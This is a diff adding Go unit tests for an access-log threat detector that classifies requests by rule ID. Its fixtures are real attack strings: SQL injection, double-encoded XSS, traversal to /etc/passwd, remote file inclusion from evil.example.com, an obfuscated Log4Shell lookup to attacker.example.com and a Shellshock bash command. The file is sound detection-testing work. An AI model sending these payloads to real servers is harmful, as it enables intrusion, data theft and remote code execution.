@@ -0,0 +1,116 @@
+package access_log
+
+import (
+	"reflect"
+	"testing"
+)
+
+func Test_matchThreatRules(t *testing.T) {
+	tests := []struct {
+		name           string
+		uri            string
+		userAgent      string
+		referer        string
+		wantCategories []string
+		wantRuleIds    []string
+	}{
+		{
+			name: "benign request",
+			uri:  "/products/index.html?page=2&sort=price",
+		},
+		{
+			name:           "union select, url encoded",
+			uri:            "/item.php?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users",
+			wantCategories: []string{ThreatCategorySqlInjection},
+			wantRuleIds:    []string{"APACHE-SQLI-001"},
+		},
+		{
+			name:           "boolean tautology with comment",
+			uri:            "/login?user=admin'+OR+'1'='1'--",
+			wantCategories: []string{ThreatCategorySqlInjection},
+			wantRuleIds:    []string{"APACHE-SQLI-002", "APACHE-SQLI-003"},
+		},
+		{
+			name:           "valid escapes with an invalid escape",
+			uri:            "/item.php?id=1%27%20OR%201=1%zz",
+			wantCategories: []string{ThreatCategorySqlInjection},
+			wantRuleIds:    []string{"APACHE-SQLI-002"},
+		},
+		{
+			name:           "double encoded script tag",
+			uri:            "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
+			wantCategories: []string{ThreatCategoryXss},
+			wantRuleIds:    []string{"APACHE-XSS-001"},
+		},
+		{
+			name:           "path traversal to passwd",
+			uri:            "/download?file=../../../../etc/passwd",
+			wantCategories: []string{ThreatCategoryPathTraversal, ThreatCategoryLfi},
+			wantRuleIds:    []string{"APACHE-TRAVERSAL-001", "APACHE-LFI-001"},
+		},
+		{
+			name:           "remote file inclusion",
+			uri:            "/index.php?page=http://evil.example.com/shell.txt?",
+			wantCategories: []string{ThreatCategoryRfi},
+			wantRuleIds:    []string{"APACHE-RFI-001"},
+		},
+		{
+			name:           "obfuscated log4shell in user agent",
+			uri:            "/",
+			userAgent:      "${${lower:j}ndi:ldap://attacker.example.com/a}",
+			wantCategories: []string{ThreatCategoryLog4Shell},
+			wantRuleIds:    []string{"APACHE-LOG4SHELL-001"},
+		},
+		{
+			name:           "shellshock",
+			uri:            "/cgi-bin/status",
+			userAgent:      "() { :; }; /bin/bash -c 'id'",
+			wantCategories: []string{ThreatCategoryCommandInjection},
+			wantRuleIds:    []string{"APACHE-CMDI-002"},
+		},
+		{
+			name:           "scanner paths and user agent",
+			uri:            "/.env",
+			userAgent:      "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+			wantCategories: []string{ThreatCategoryScanner},
+			wantRuleIds:    []string{"APACHE-SCANNER-002", "APACHE-SCANNER-005"},
+		},
+		{
+			name:           "wordpress login probe",
+			uri:            "/wp-login.php",
+			wantCategories: []string{ThreatCategoryScanner},
+			wantRuleIds:    []string{"APACHE-SCANNER-001"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			inputs := threatInputs{
+				uri:       normaliseThreatInput(tt.uri),
+				userAgent: normaliseThreatInput(tt.userAgent),
+				referer:   normaliseThreatInput(tt.referer),
+			}
+			gotCategories, gotRuleIds := matchThreatRules(inputs)
+			if !reflect.DeepEqual(gotCategories, tt.wantCategories) {
+				t.Errorf("categories: got %v, want %v", gotCategories, tt.wantCategories)
+			}
+			if !reflect.DeepEqual(gotRuleIds, tt.wantRuleIds) {
+				t.Errorf("rule ids: got %v, want %v", gotRuleIds, tt.wantRuleIds)
+			}
+		})
+	}
+}
+
+func Test_normaliseThreatInput(t *testing.T) {
+	tests := map[string]string{
+		"/item.php?id=1%27%20OR%201=1%zz": "/item.php?id=1' or 1=1%zz",
+		"/a+b/c%2Bd?q=x+y%2By":            "/a+b/c+d?q=x y y",
+		"/%252e%252e/etc%2fpasswd%":       "/../etc/passwd%",
+		"/100%":                           "/100%",
+	}
+	for value, want := range tests {
+		if got := normaliseThreatInput(value); got != want {
+			t.Errorf("%s: got %s, want %s", value, got, want)
+		}
+	}
+}